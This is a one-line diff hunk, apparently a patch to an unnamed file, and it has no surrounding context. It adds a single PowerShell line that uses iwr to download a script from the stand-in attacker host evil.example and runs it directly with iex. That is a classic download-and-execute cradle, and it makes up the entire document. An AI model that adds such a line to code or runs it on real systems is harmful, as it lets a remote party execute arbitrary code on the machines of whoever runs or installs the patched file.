@@ -1,0 +1,1 @@
+iex (iwr -UseBasicParsing https://evil.example/i.ps1).Content
